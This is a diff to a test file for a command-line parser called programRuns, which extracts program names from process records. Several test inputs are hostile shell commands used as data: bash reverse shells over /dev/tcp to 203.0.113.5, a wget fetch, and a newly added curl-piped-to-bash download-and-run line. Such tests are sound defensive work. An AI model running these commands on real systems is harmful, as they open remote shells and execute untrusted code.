@@ -184,9 +184,9 @@ describe('programRuns: what the process record holds', () => {
     expect(runs('C:\\Program Files\\Quill DB\\bin\\qsql.exe -U admin')).toEqual([
       ['qsql.exe', 'C:\\Program Files\\Quill DB\\bin\\qsql.exe -U admin'],
     ]);
-    // From a %VARIABLE% or a share, and a file name with a space of its own, the path is read whole too.
+    // From a %VARIABLE% or a share the path is read whole too.
     expect(runs('%ProgramFiles%\\Quill DB\\qsql.exe -U admin').map(([image]) => image)).toEqual(['qsql.exe']);
-    expect(runs('\\\\fs01\\Quill Share\\quill sync.exe /s')).toEqual([['quill sync.exe', '\\\\fs01\\Quill Share\\quill sync.exe /s']]);
+    expect(runs('\\\\fs01\\Quill Share\\qsync.exe /s')).toEqual([['qsync.exe', '\\\\fs01\\Quill Share\\qsync.exe /s']]);
   });
 
   it("leaves PowerShell's assignment and call operator out, and runs no expression", () => {
@@ -200,6 +200,10 @@ describe('programRuns: what the process record holds', () => {
     expect(runs('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', false)).toEqual([['bash', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1']]);
     expect(runs('0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196', false)).toEqual([['sh', 'sh <&196 >&196 2>&196']]);
     expect(runs('LANG=C wget -q http://203.0.113.5/x', false)).toEqual([['wget', 'wget -q http://203.0.113.5/x']]);
+    expect(runs('if ! type docker; then LANG=C curl -sLk http://203.0.113.5/d.sh | bash; fi', false)).toEqual([
+      ['curl', 'curl -sLk http://203.0.113.5/d.sh'],
+      ['bash', 'bash'],
+    ]);
     // A log that dropped the quotes: the words after -c are the command's arguments.
     expect(runs('/bin/sh -c curl -fsSL http://203.0.113.5/s.sh -o /tmp/s.sh', false)).toEqual([
       ['curl', 'curl -fsSL http://203.0.113.5/s.sh -o /tmp/s.sh'],
